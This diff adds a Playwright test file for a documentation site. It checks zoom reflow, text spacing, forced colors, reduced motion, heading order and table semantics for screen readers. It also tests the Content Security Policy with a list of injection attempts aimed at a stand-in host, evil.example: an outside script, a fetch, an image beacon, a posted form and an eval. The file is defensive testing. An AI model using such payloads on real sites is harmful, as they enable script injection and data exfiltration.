@@ -1,0 +1,135 @@
+"""What axe cannot see: zoom, reflow, spacing, forced colors, motion, tables by ear, and a policy that holds."""
+
+import pytest
+from test_browser import KINDS, open_page, settle
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_400_percent_zoom(browser, base_url, kind):
+    """WCAG 1.4.10: at 400% of a 1280 px window (320 px) nothing is cut off and nothing scrolls sideways."""
+    page = open_page(browser, base_url + KINDS[kind], 320, 256, device_scale_factor=4)
+    cut = page.evaluate(
+        """() => [...document.querySelectorAll('article :is(p, li, h1, h2, h3, td, th, figcaption, a)')].filter((e) => {
+        const r = e.getBoundingClientRect(); return r.width && (r.left < -1 || r.right > innerWidth + 1)
+        && !e.closest('thead')?.matches('.compare thead'); }).map((e) => e.outerHTML.slice(0, 80))"""
+    )
+    assert cut == [] and page.evaluate("document.documentElement.scrollWidth") <= 320
+    page.context.close()
+
+
+SPACING = "* { line-height: 1.5 !important; letter-spacing: 0.12em !important; word-spacing: 0.16em !important } p { margin-bottom: 2em !important }"
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_readers_own_text_spacing(browser, base_url, kind):
+    """WCAG 1.4.12: with wider spacing no text is cut and nothing scrolls sideways."""
+    page = open_page(browser, base_url + KINDS[kind], 390)
+    page.evaluate("css => { const s = new CSSStyleSheet(); s.replaceSync(css); document.adoptedStyleSheets = [s]; }", SPACING)
+    cut = page.evaluate(
+        """() => [...document.querySelectorAll('article :is(p, li, h1, h2, h3, td, th), .md-banner p, .md-header__topic:first-child')].filter((e) => {
+        const s = getComputedStyle(e); return e.getClientRects().length && s.overflow !== 'visible' && (e.scrollHeight > e.clientHeight + 2 || e.scrollWidth > e.clientWidth + 2); })
+        .map((e) => e.outerHTML.slice(0, 80))"""
+    )
+    assert cut == [] and page.evaluate("document.documentElement.scrollWidth") <= 390
+    page.context.close()
+
+
+def test_forced_colors_keep_the_figures(browser, base_url):
+    """With the reader's own colors the dots still show two shades, and the words beside them stay."""
+    page = open_page(browser, base_url, forced_colors="active")
+    dots = page.locator(".dots").first
+    shades = dots.evaluate("(e) => [getComputedStyle(e, '::before').backgroundImage, getComputedStyle(e, '::after').backgroundImage]")
+    assert shades[0] != shades[1] and "gradient" in shades[0]
+    assert page.locator(".of100__group strong").first.is_visible()
+    page.context.close()
+
+
+def test_nothing_moves_when_asked_not_to(browser, base_url):
+    page = open_page(browser, base_url, 390, reduced_motion="reduce")
+    moving = page.evaluate(
+        "[...document.querySelectorAll('*')].filter((e) => parseFloat(getComputedStyle(e).transitionDuration) > 0).length"
+    )
+    assert moving == 0
+    page.context.close()
+
+
+def test_headings_make_sense_as_a_list(browser, base_url):
+    """A screen reader's list of headings: one at the top, no step skipped, each with words, none said twice."""
+    for kind, path in KINDS.items():
+        page = open_page(browser, base_url + path)
+        heads = page.evaluate(
+            "[...document.querySelectorAll('h1,h2,h3,h4,h5,h6')].filter((h) => h.checkVisibility()).map((h) => [+h.tagName[1], h.innerText.trim()])"
+        )
+        levels = [level for level, _ in heads]
+        assert levels[0] == 1 and levels.count(1) == 1, f"{kind}: {heads[:3]}"
+        assert all(b <= a + 1 for a, b in zip(levels, levels[1:], strict=False)), kind
+        words = [text for _, text in heads]
+        assert all(words) and len(words) == len(set(words)), f"{kind}: {sorted(w for w in words if words.count(w) > 1)}"
+        page.context.close()
+
+
+@pytest.mark.parametrize("width", [320, 1280])
+def test_the_compare_table_is_heard_with_its_heads(browser, base_url, width):
+    """On a phone the rows are blocks: the table, its heads and its cells stay so for a screen reader."""
+    page = open_page(browser, base_url + KINDS["compare"], width)
+    table = page.get_by_role("table", name="side by side")
+    assert table.count() == 1
+    rows = table.get_by_role("row").count()
+    assert table.get_by_role("columnheader").count() == 8
+    assert table.get_by_role("rowheader").count() == rows - 1 == 9
+    assert table.get_by_role("cell").count() == 63
+    if width == 320:
+        label = table.get_by_role("cell").first.evaluate("(e) => getComputedStyle(e, '::before').content")
+        assert "Change of medicine" in label
+    page.context.close()
+
+
+def test_drawer_search_and_switch_have_names(browser, base_url):
+    page = open_page(browser, base_url, 320)
+    assert page.get_by_role("checkbox", name="Menu").count() == 1
+    assert page.get_by_role("textbox", name="Search").count() == 1
+    assert page.get_by_role("radio", name="colors").count() >= 1
+    page.context.close()
+
+
+# The security policy, tried by a page that tries to break it.
+
+TRIES = {
+    "a script from elsewhere": "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
+    "an inline script": "document.head.append(Object.assign(document.createElement('script'), {text: 'window.broken = 1'}))",
+    "a request to elsewhere": "fetch('https://evil.example/').catch(() => {})",
+    "a picture from elsewhere": "new Image().src = 'https://evil.example/x.gif'",
+    "a style from elsewhere": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'https://evil.example/x.css'}))",
+    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
+    "a form sent elsewhere": "(() => { const f = document.createElement('form'); f.action = 'https://evil.example/'; f.method = 'post'; document.body.append(f); f.submit(); })()",
+    "text run as a script": "(() => { const b = document.createElement('button'); b.setAttribute('onclick', 'eval(\"window.broken = 1\")'); document.body.append(b); b.click(); })()",
+}
+
+
+@pytest.mark.parametrize("attempt", TRIES)
+def test_the_policy_blocks(browser, base_url, attempt):
+    page = open_page(browser, base_url)
+    page.evaluate(
+        "() => { window.blocked = []; document.addEventListener('securitypolicyviolation', (e) => window.blocked.push(e.effectiveDirective)); }"
+    )
+    page.evaluate(f"() => {{ {TRIES[attempt]}; }}")
+    page.wait_for_timeout(200)
+    assert page.evaluate("window.blocked.length") > 0, f"{attempt} was not blocked"
+    assert page.evaluate("window.broken") is None and page.url.startswith(base_url)
+    page.context.close()
+
+
+def test_the_policy_blocks_nothing_of_ours(browser, base_url):
+    """Reading, searching and switching colors run into no wall."""
+    context = browser.new_context()
+    page = context.new_page()
+    messages: list[str] = []
+    page.on("console", lambda m: messages.append(m.text))
+    page.goto(base_url)
+    page.locator("label[for^=__palette]:not([hidden])").click()
+    page.locator("[data-md-component=search-query]").click()
+    page.keyboard.type("memory")
+    page.locator(".md-search-result__link").first.wait_for(timeout=10_000)
+    settle(page)
+    assert [m for m in messages if "Content Security Policy" in m or "Error" in m] == []
+    context.close()
